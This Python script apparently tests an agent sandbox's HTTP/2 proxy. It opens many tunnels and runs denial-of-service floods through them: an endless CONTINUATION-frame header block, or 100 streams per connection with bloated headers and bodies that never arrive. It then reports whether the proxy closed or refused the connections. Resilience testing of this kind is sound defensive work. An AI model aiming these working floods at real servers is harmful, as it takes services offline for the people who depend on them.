"""Runs inside the agent, with the agent's own python3 (standard library only), as an attacker
would: COUNT HTTP/2 connections through the bottle's proxy ($HTTPS_PROXY), each a TLS tunnel to
HOST:443, and on each, by MODE:

- ``block``: one request whose head block never ends: a HEADERS frame, then 63 CONTINUATION
  frames of 128 KiB (all the h2 library itself keeps of one block: 8 MiB);
- ``streams``: 100 requests at once (h2's own bound, whatever the proxy's SETTINGS say), each a
  head of 15 literal headers of 3.9 KB (within h2's 64 KiB) and a body that never comes.

Then it holds them for HOLD seconds and prints one JSON object: how many connections took every
frame and were still open, how many the proxy closed or refused a stream on (RST_STREAM,
GOAWAY), how many never got a tunnel or HTTP/2.

    python3 h2_flood.py HOST COUNT HOLD MODE
"""

import json
import ssl
import struct
import sys
import time

from agent_tunnel import open_tunnel  # copied beside this script

host, count, hold, mode = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
context = ssl.create_default_context()  # the system bundle, which trusts the bottle's CA
context.set_alpn_protocols(["h2"])
result = {"open": 0, "closed": 0, "no_h2": 0}  # closed: or a stream refused
FRAME = 128 * 1024


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(n: int) -> bytes:
    """An HPACK string length (7-bit prefix, no Huffman)."""
    if n < 127:
        return bytes([n])
    out, n = bytearray([127]), n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + bytes([n]))


def literal(name: str, value: str) -> bytes:
    """An HPACK literal header field without indexing: the proxy is sent every byte it keeps."""
    return b"\x00" + length(len(name)) + name.encode() + length(len(value)) + value.encode()


def head(stream: int) -> bytes:
    fields = [(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", "/h2-flood")]
    if mode == "streams":
        fields += [(f"x-filler-{i}", f"{stream:05d}" + "v" * 3900) for i in range(15)]
    return b"".join(literal(n, v) for n, v in fields)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")  # and an empty SETTINGS
if mode == "block":  # HEADERS without END_HEADERS, then CONTINUATION frames, never the last
    frames = [PREFACE + frame(1, 0, 1, head(1))] + [frame(9, 0, 1, b"\x40" * FRAME)] * 63
else:  # HEADERS with END_HEADERS, without END_STREAM: each request waits for its body
    frames = [PREFACE] + [frame(1, 4, stream, head(stream)) for stream in range(1, 201, 2)]
held = []
for _ in range(count):
    try:
        tls = open_tunnel(host, context)
    except OSError:
        result["no_h2"] += 1
        continue
    if tls.selected_alpn_protocol() != "h2":
        result["no_h2"] += 1
        tls.close()
        continue
    try:
        for each in frames:
            tls.sendall(each)
        held.append(tls)
    except OSError:
        result["closed"] += 1
        tls.close()

time.sleep(hold)
for tls in held:
    tls.settimeout(0.5)
    got, ended = b"", True
    try:
        while data := tls.recv(65536):
            got += data
    except TimeoutError:
        ended = False
    except OSError:
        pass
    # the proxy's own SETTINGS (type 4) and their ACK come first: look for RST_STREAM (3), GOAWAY (7)
    kinds = set()
    while len(got) >= 9:
        size = int.from_bytes(got[:3], "big")
        kinds.add(got[3])
        got = got[9 + size:]
    result["closed" if ended or kinds & {3, 7} else "open"] += 1
    tls.close()
print(json.dumps(result))
